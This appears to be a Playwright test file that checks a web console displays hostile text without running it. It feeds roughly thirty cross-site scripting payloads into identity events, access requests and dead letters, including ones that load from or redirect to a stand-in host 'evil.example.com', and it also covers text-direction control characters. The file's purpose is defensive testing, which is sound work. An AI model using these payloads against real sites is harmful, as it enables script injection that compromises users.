/** Text of others is text on every page: whatever a publisher puts into an event, the console shows, and never runs. */
import { randomUUID } from 'node:crypto';
import { expect, test } from '@jest/globals';
import type { Page } from 'playwright-core';
import { plain } from '../../../fuzz/fixtures/vendors.ts';
import { until } from '../../until.ts';
import { expectOwnElements } from './own-elements.ts';
import { type BrowserWorld, requestOf } from './world.ts';

/** Each would leave a mark on the window, or open a dialog. */
const scripts = [
  '<script>pwned=1</script>',
  '<ScRiPt>pwned=1</sCrIpT>',
  '<script src=//evil.example.com/x.js></script>',
  '<img src=x onerror=pwned=1>',
  '<img src=x onerror="&#112;wned=1">',
  '<svg onload=pwned=1>',
  '<svg><script>pwned=1</script></svg>',
  '<svg><animate onbegin=pwned=1 attributeName=x dur=1s>',
  '<math><mi xlink:href="javascript:pwned=1">x</mi></math>',
  '<iframe src="javascript:parent.pwned=1">',
  '<iframe srcdoc="<script>parent.pwned=1</script>">',
  '<object data="javascript:pwned=1">',
  '<embed src="javascript:pwned=1">',
  '<a href="javascript:pwned=1">click</a>',
  'javascript:pwned=1',
  'data:text/html,<script>pwned=1</script>',
  '<details open ontoggle=pwned=1>',
  '<video><source onerror=pwned=1></video>',
  '<audio src=x onerror=pwned=1>',
  '<body onload=pwned=1>',
  '<input autofocus onfocus=pwned=1>',
  '<select autofocus onfocus=pwned=1>',
  '<marquee onstart=pwned=1>',
  '<style>@import "//evil.example.com/x.css"</style>',
  '<link rel=stylesheet href=//evil.example.com/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example.com">',
  '<base href="//evil.example.com/">',
  '<form action=//evil.example.com><button autofocus>x</button></form>',
  '"><script>pwned=1</script>',
  "'-pwned=1-'",
  '</title></style></textarea><script>pwned=1</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what somebody sends
  '${pwned=1}{{constructor.constructor("pwned=1")()}}',
  '<template><script>pwned=1</script></template>',
] as const;

/** Of one event that carries them. */
const eventId = `<img src=x onerror=pwned=1> ${randomUUID()}`;

const directions = '\u{202E}moc.elpmaxe@nimda\u{2066}\u{200F}';
const longName = 'n'.repeat(10_240);

/** Where the texts are shown, and what must be there before the page is looked at. */
const places: readonly [path: string, shows: RegExp][] = [
  [`/people?query=${encodeURIComponent('onerror=pwned')}`, /<img src=x onerror=pwned=1>/],
  [`/people?person=${encodeURIComponent('<img src=x onerror=pwned=1>')}`, /What is known/],
  ['/activity?person=onerror', /<img src=x onerror=pwned=1>/],
  ['/dead-letters?group=retries-exhausted@user-access-requests', /<svg onload=pwned=1>/],
  ['/sandbox', /<img src=x onerror=pwned=1>/],
  ['/entities', /germany/],
  [`/event?id=${encodeURIComponent(eventId)}`, /What happened/],
  ['/policy', /Rules and people/],
  ['/safeguard', /Thresholds/],
  ['/health', /\d+ ok/],
];

export function hostileTextTests(world: () => BrowserWorld): void {
  let sending: Promise<void> | undefined;
  /** Once for all tests. */
  const sendAll = () => {
    sending ??= sendHostile(world());
    return sending;
  };

  test('thirty kinds of script, in every field of an event', async () => {
    expect(scripts.length).toBeGreaterThanOrEqual(30);
    await sendAll();
    const page = await world().open('/activity?person=pwned');
    const isClean = () => expectUnharmed(page, world().origin);
    const rows = page.locator('.view [role=row]');
    await until(async () => (await rows.count()) >= 20);
    await isClean();
    // Other rows that come in would move this one out of the view.
    await page.getByRole('textbox', { name: 'Person' }).fill('<svg onload=pwned=1>');
    await rows.filter({ hasText: '<svg onload=pwned=1>' }).first().click();
    await page.getByRole('complementary').getByText('<svg onload=pwned=1>').first().waitFor();
    await isClean();

    await page.goto(`${world().origin}/dead-letters?group=retries-exhausted@user-access-requests`);
    const letter = page.getByRole('row').filter({ hasText: '<img src=x onerror=pwned=1>' }).first();
    await letter.waitFor();
    await isClean();
    await letter.click();
    await page.getByRole('complementary').getByText('"username": "<img src=x onerror=pwned=1>"').waitFor();
    await isClean();

    await page.goto(`${world().origin}/people?query=${encodeURIComponent('<script>')}`);
    const person = page.getByRole('link', { name: '<script>pwned=1</script>', exact: true });
    await until(async () => {
      await page.reload();
      await page
        .getByText(/Nobody is known|\d (person|people)/)
        .first()
        .waitFor();
      return (await person.count()) > 0;
    });
    await person.click();
    await page.getByRole('heading', { name: '<script>pwned=1</script>', exact: true }).waitFor();
    await isClean();
  });

  test('no page that shows them holds anything but the console’s own elements', async () => {
    await sendAll();
    const page = await world().open('/activity');
    for (const [path, shows] of places) {
      await until(async () => {
        await page.goto(`${world().origin}${path}`);
        await page.locator('h1').waitFor();
        await page
          .getByText(/^Loading /)
          .first()
          .waitFor({ state: 'detached' });
        return shows.test(await page.locator('main').innerText());
      });
      await expectUnharmed(page, world().origin);
    }
  });

  test('an event that is tried is text too, with each of its values', async () => {
    const page = await world().open('/policy');
    await page.getByLabel(/Body of a message/).fill(JSON.stringify(joins('<img src=x onerror=pwned=1>')));
    await page.getByRole('button', { name: 'Try', exact: true }).click();
    await page.getByRole('article').getByText('<img src=x onerror=pwned=1>').first().waitFor();
    await expectUnharmed(page, world().origin);
  });

  test('a name of 10 KB, and marks that turn the direction of text, spoil no page', async () => {
    for (const username of [longName, directions]) {
      await world().sendDeadLetter('user-access-requests', 'not-found', requestOf(username, { reason: username }));
    }
    const page = await world().open('/dead-letters?group=not-found@user-access-requests', { width: 360, height: 740 });
    const rows = page.locator('.view [role=row]');
    await until(async () => (await rows.count()) >= 2);
    expect(await page.evaluate<number>('document.documentElement.scrollWidth')).toBeLessThanOrEqual(360);
    expect(await page.locator('body').innerText()).toContain('\u{FFFD}moc.elpmaxe@nimda\u{FFFD}\u{FFFD}');
    expect(await page.locator('body').innerText()).not.toMatch(/[\u{202A}-\u{202E}\u{2066}-\u{2069}\u{200E}\u{200F}]/u);
    await rows.filter({ hasText: 'moc.elpmaxe@nimda' }).getByRole('button').click();
    await page.getByRole('complementary').getByText('moc.elpmaxe@nimda').first().waitFor();
    expect(await page.evaluate<number>('document.documentElement.scrollWidth')).toBeLessThanOrEqual(360);
  });
}

/** A person who joins, with the text in everything that a source may say of them. */
function joins(text: string) {
  const user = { userName: text, displayName: text, department: text, userType: text, groups: [text] };
  return plain('identity.user.joined.v1', { user }, { time: new Date().toISOString(), id: randomUUID() });
}

async function sendHostile(world: BrowserWorld): Promise<void> {
  await Promise.all(scripts.map((script) => sendEverywhere(world, script.slice(0, 100))));
  const text = '<img src=x onerror=pwned=1>';
  await world.request(text, { requestedBy: text, reason: text, ticket: text }, { id: eventId, source: text });
}

/** To a user of this login, in every field. */
async function sendEverywhere(world: BrowserWorld, text: string): Promise<void> {
  await world.addUser(text);
  await world.send('identity-events', joins(text));
  const said = { requestedBy: text, reason: text, ticket: text, assignment: text, approvedBy: [text] };
  // The form of a login is free, so this one is carried out as far as Zuora's answer.
  await world.request(text, said);
  await world.sendDeadLetter('user-access-requests', 'retries-exhausted', {
    ...requestOf(text, { requestedBy: text, reason: text, entityId: text, targetEntityIds: [text] }),
    ...{ id: `${text} ${randomUUID()}`, source: text, correlationid: text },
  });
}

async function expectUnharmed(page: Page, origin: string): Promise<void> {
  expect(await page.evaluate('typeof pwned')).toBe('undefined');
  expect(new URL(page.url()).origin).toBe(origin);
  await expectOwnElements(page);
}
